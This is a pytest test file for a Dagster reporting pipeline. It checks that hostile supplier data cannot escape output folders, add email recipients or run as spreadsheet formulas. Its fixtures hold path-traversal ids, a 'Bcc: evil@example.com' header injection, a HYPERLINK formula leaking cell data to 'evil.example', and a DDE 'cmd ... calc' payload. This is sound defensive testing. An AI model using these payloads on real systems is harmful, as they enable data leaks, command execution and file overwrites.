"""A whole month through the Dagster definitions on data a hostile supplier wrote: team ids that
are paths, 300 characters or emoji, line breaks in team names, formulas for names, an address
that tries to add a recipient. Every report must reach exactly its reader, whole (SPEC §2, §9, §11)."""

from __future__ import annotations

import csv
import email
import email.policy
import hashlib
import io
from pathlib import Path

import polars as pl
import pypdf
import pytest

from core.manifest import read_manifest
from core.months import Month
from core.names import SAFE_ID, safe_file_name
from delivery.log import BROKEN, INVALID_ADDRESS, SENT, DeliveryLog
from pipelines.cli import main, run_month
from synthetic.generator import GenerateOptions, generate

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile_month")]

MONTH = Month(2026, 10)
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "=1+1"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    data, out, home = root / "data", root / "out", root / "home"
    escape = root / "escaped-absolute"
    generate(GenerateOptions(agents=36, team_size=6, month=MONTH, out=data, months_back=1, seed=3))
    ids = {"T01": "../center_report", "T02": "../../../escaped", "T03": str(escape), "T04": "团队" * 150,
           "T05": "🐉🔥"}  # T06 keeps its id (and, as the generator writes it, has no supervisor_email)
    for month in MONTH.back(1):
        folder = data / str(month)
        teams = pl.read_csv(folder / "teams.csv", infer_schema=False)
        teams = teams.with_columns(
            team_id=pl.col("team_id").replace(ids),
            team_name=pl.when(pl.col("team_id") == "T02").then(pl.lit("上海\r\nBcc: evil@example.com"))
            .when(pl.col("team_id") == "T06").then(pl.lit("成都 $\\foo$ 组"))  # matplotlib would read it as math
            .otherwise(pl.col("team_name")),
            supervisor_email=pl.when(pl.col("team_id") == "T03").then(pl.lit("s003@example.com\r\nBcc: evil@example.com"))
            .when(pl.col("team_id") == "T04").then(pl.lit('"Li, Na" <li.na@example.com>'))
            .otherwise(pl.col("supervisor_email")))
        teams.write_csv(folder / "teams.csv")
        agents = pl.read_csv(folder / "agents.csv", infer_schema=False).with_columns(team_id=pl.col("team_id").replace(ids))
        names = dict(zip(agents["agent_id"].head(len(FORMULA_NAMES)), FORMULA_NAMES))
        agents.with_columns(agent_name=pl.col("agent_id").replace_strict(names, default=pl.col("agent_name"))) \
            .write_csv(folder / "agents.csv")
        attendance = pl.read_csv(folder / "attendance.csv", infer_schema=False)
        attendance = pl.concat([attendance, attendance.head(1).with_columns(shift_id=pl.lit("=cmd|' /C calc'!A0"),
                                                                          agent_id=pl.lit("=cmd|' /C calc'!A0"))])
        attendance.write_csv(folder / "attendance.csv")
    policy = root / "policy.yaml"
    policy.write_text("center_report_recipients: [director@example.com]\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DAGSTER_HOME", str(home))
        home.mkdir()
        for month in MONTH.back(1):
            ok, messages, _ = run_month(month, str(data), str(out), policy=str(policy))
            assert ok, messages
        yield {"root": root, "data": data, "out": out, "month_dir": out / str(MONTH), "ids": ids, "escape": escape,
               "policy": policy, "patch": patch}


def pdf_text(data: bytes) -> str:
    return "".join("".join(page.extract_text().split()) for page in pypdf.PdfReader(io.BytesIO(data)).pages)


def test_nothing_is_written_outside_the_month_folders(hostile):
    root = hostile["root"]
    written = {p for p in root.rglob("*") if p.is_file()}
    outside = {p for p in written if not p.is_relative_to(hostile["data"]) and not p.is_relative_to(root / "home")
               and not any(p.is_relative_to(hostile["out"] / str(m)) for m in MONTH.back(1))
               and p != hostile["policy"]}
    assert outside == set()
    assert not hostile["escape"].with_suffix(".pdf").exists() and not (root / "escaped.pdf").exists()


def test_each_team_report_has_a_safe_name_of_its_own_and_the_center_report_is_the_center_report(hostile):
    folder = hostile["month_dir"]
    manifest = read_manifest(folder)
    teams = {entry.team_id: entry for entry in manifest.values() if entry.kind == "team"}
    assert sorted(teams) == sorted([*hostile["ids"].values(), "T06"])
    for team_id, entry in teams.items():
        name = Path(entry.report)
        assert name.parent == Path("teams") and name.stem == safe_file_name(team_id) and SAFE_ID.fullmatch(name.stem)
        assert hashlib.sha256((folder / entry.report).read_bytes()).hexdigest() == entry.sha256
    center = manifest["center_report.pdf"]
    assert center.kind == "center" and hashlib.sha256((folder / "center_report.pdf").read_bytes()).hexdigest() == \
        center.sha256
    card = pl.read_csv((folder / "agent_scorecard.csv").read_bytes()[3:], infer_schema=False)
    center_text = pdf_text((folder / "center_report.pdf").read_bytes())
    assert "Centerreport" in center_text and not any(agent_id in center_text for agent_id in card["agent_id"])
    assert "成都$\\foo$组" in center_text  # a dollar sign in a name is text, in the tables and the charts
    for team_id, entry in teams.items():  # each team report holds its own agents, and no one else's
        text = pdf_text((folder / entry.report).read_bytes())
        own = card.filter(pl.col("team_id") == team_id)["agent_id"]
        others = card.filter(pl.col("team_id") != team_id)["agent_id"]
        assert own.len() and all(a in text for a in own) and not any(a in text for a in others), team_id


def test_every_supervisor_receives_exactly_their_own_teams_report(hostile):
    folder = hostile["month_dir"]
    manifest = read_manifest(folder)
    by_sha = {entry.sha256: entry for entry in manifest.values()}
    received = {}
    for path in (folder / "outbox").glob("*.eml"):
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert message["Bcc"] is None and "\n" not in message["Subject"] and "\r" not in message["Subject"]
        (to,) = message["To"].addresses
        received[to.addr_spec] = [by_sha[hashlib.sha256(part.get_payload(decode=True)).hexdigest()]
                                  for part in message.iter_attachments()]
    # The director's message carries the center report and every team report that cannot reach its supervisor.
    expected = {"director@example.com": ["center_report.pdf", "team_comparison.csv"]}
    for entry in manifest.values():
        if entry.kind == "team" and entry.address and "\n" not in entry.address:
            address = "li.na@example.com" if "li.na" in entry.address else entry.address
            expected[address] = [entry.report]
        elif entry.kind == "team":
            expected["director@example.com"].append(entry.report)
    got = {who: sorted(e.report for e in entries) for who, entries in received.items()}
    assert got == {who: sorted(reports) for who, reports in expected.items()}
    assert len(expected["director@example.com"]) > 1
    assert "evil@example.com" not in received
    refused = [row for row in DeliveryLog(folder).rows() if row["status"] == INVALID_ADDRESS]
    assert [row["report"] for row in refused] == [f"teams/{safe_file_name(hostile['ids']['T03'])}.pdf"]


def test_formulas_in_names_are_written_as_text_and_numbers_stay_numbers(hostile):
    folder = hostile["month_dir"]
    raw = (folder / "agent_scorecard.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw[3:].decode("utf-8"))))
    names = {row["agent_name"] for row in rows}
    assert {"'" + name for name in FORMULA_NAMES} <= names
    for row in rows:
        assert not row["agent_name"].startswith(("=", "+", "-", "@", "\t"))
        for column in ("composite_delta", "attendance_rate", "composite"):
            assert not row[column].startswith("'")
    assert any(row["composite_delta"].startswith("-") for row in rows)  # a negative number stays a number
    quarantine = (folder / "data_quality" / "quarantine_attendance.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in quarantine and "\n=cmd" not in quarantine and ",=cmd" not in quarantine


def test_a_report_cut_short_on_disk_is_refused_and_the_send_fails(hostile, capfd):
    folder = hostile["month_dir"]
    entry = next(e for e in read_manifest(folder).values() if e.team_id == hostile["ids"]["T01"])
    path = folder / entry.report
    whole = path.read_bytes()
    path.write_bytes(whole[: len(whole) // 3])  # what a run killed mid-write would have left, without temp + rename
    try:
        code = main(["send", "--month", str(MONTH), "--out", str(hostile["out"]), "--policy", str(hostile["policy"]),
                     "--force", "--to", entry.address])
        printed = capfd.readouterr()
        assert code == 1 and "1 refused as broken" in printed.err
        rows = DeliveryLog(folder).rows()
        assert [row["status"] for row in rows if row["report"] == entry.report][-1] == BROKEN
        assert not any(row["status"] == SENT and row["kind"] == "resend" for row in rows)
    finally:
        path.write_bytes(whole)
